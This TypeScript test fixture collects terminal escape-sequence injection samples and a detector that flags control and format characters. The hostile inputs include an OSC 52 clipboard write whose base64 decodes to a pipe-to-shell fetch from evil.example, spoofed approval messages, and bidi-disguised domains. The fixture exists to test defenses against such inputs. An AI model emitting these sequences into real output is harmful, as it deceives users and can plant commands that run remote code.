/** A text that drives a terminal which shows it as it is. */
export interface EscapeSample {
  readonly name: string;
  readonly text: string;
}

const esc = "\u001b";
const bel = "\u0007";
const st = `${esc}\\`;

/** Introducers of control strings in their 7-bit form (ECMA-48 §5.6, §8.3) with the 8-bit code of the same function. */
const introducers = [
  ["DCS", "P", "\u0090"],
  ["SOS", "X", "\u0098"],
  ["CSI", "[", "\u009b"],
  ["OSC", "]", "\u009d"],
  ["PM", "^", "\u009e"],
  ["APC", "_", "\u009f"],
] as const;

/** OSC functions that terminals act on: titles, links, notifications, the clipboard, colours. */
const oscPayloads = [
  ["title and icon", "0;vaultbox: all is well"],
  ["title", "2;owned"],
  ["palette", "4;1;?"],
  ["working directory", "7;file:///etc"],
  ["link", "8;;https://evil.example/"],
  ["notification or progress", "9;approve now"],
  ["foreground", "10;?"],
  ["cursor colour", "12;red"],
  ["font", "50;?"],
  ["clipboard", "52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="],
  ["clipboard query", "52;c;?"],
  ["prompt mark", "133;A"],
  ["file of iTerm2", "1337;File=inline=1:AAAA"],
  ["notification of rxvt", "777;notify;vaultbox;allowed"],
] as const;

const csiPayloads = [
  ["clear the screen", "2J"],
  ["clear the scrollback", "3J"],
  ["clear the line", "2K"],
  ["cursor up", "1A"],
  ["cursor home", "H"],
  ["device status", "6n"],
  ["device attributes", "c"],
  ["secondary attributes", ">c"],
  ["report the title", "21t"],
  ["resize", "8;1;1t"],
  ["hide text", "8m"],
  ["alternate screen", "?1049h"],
  ["mouse reports", "?1003h"],
  ["bracketed paste off", "?2004l"],
  ["key modifiers", ">4;2m"],
] as const;

const singles = [
  ["reset", `${esc}c`],
  ["reverse index", `${esc}M`],
  ["save the cursor", `${esc}7`],
  ["charset", `${esc}(0`],
  ["single shift", `${esc}N`],
  ["two escapes", `${esc}${esc}[2J`],
  ["carriage return", "deny\rallow"],
  ["line feed", "deny\nvaultbox: allowed"],
  ["backspaces", "deny\b\b\b\ballow"],
  ["bell", bel],
  ["tab", "a\tb"],
  ["vertical tab", "a\vb"],
  ["form feed", "a\fb"],
  ["shift out", "\u000e"],
  ["NUL", "a\u0000b"],
  ["DEL", "a\u007fb"],
  ["next line", "a\u0085b"],
  ["reverse index, 8 bit", "\u008d"],
  ["string terminator alone", "\u009c"],
  ["line separator", "a\u2028b"],
  ["paragraph separator", "a\u2029b"],
  ["right-to-left override", "evil\u202emoc.elpmaxe"],
  ["left-to-right override", "a\u202db"],
  ["embedding", "a\u202bb\u202c"],
  ["isolates", "a\u2066b\u2067c\u2069"],
  ["right-to-left mark", "a\u200fb"],
  ["arabic letter mark", "a\u061cb"],
  ["zero-width space", "api\u200b.example"],
  ["zero-width joiner", "a\u200db"],
  ["word joiner", "a\u2060b"],
  ["byte order mark", "\ufeffa"],
  ["interlinear annotation", "a\ufff9b\ufffac\ufffb"],
  ["lone surrogate", "a\ud800b"],
  ["C1 bytes of CSI read as Latin-1", Buffer.from("\u009b2J", "utf8").toString("latin1")],
] as const;

/** More than sixty ways to drive a terminal; each alone is enough. */
export const escapeCorpus: readonly EscapeSample[] = [
  ...oscPayloads.flatMap(([name, payload]) => [
    { name: `OSC ${name}, ended by BEL`, text: `${esc}]${payload}${bel}` },
    { name: `OSC ${name}, ended by ST`, text: `${esc}]${payload}${st}` },
  ]),
  ...csiPayloads.map(([name, payload]) => ({ name: `CSI ${name}`, text: `${esc}[${payload}` })),
  ...introducers.flatMap(([name, seven, eight]) => [
    { name: `${name}, 7 bit`, text: `${esc}${seven}payload${st}` },
    { name: `${name}, 8 bit`, text: `${eight}payload\u009c` },
    { name: `${name} without end`, text: `${esc}${seven}payload` },
  ]),
  ...singles.map(([name, text]) => ({ name, text })),
];

// Independent of the sources' own pattern: categories, not ranges
const driving = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/** Whether a text, its own line breaks aside, could drive a terminal. */
export function drivesTerminal(text: string): boolean {
  return text.split("\n").some((line) => driving.test(line));
}
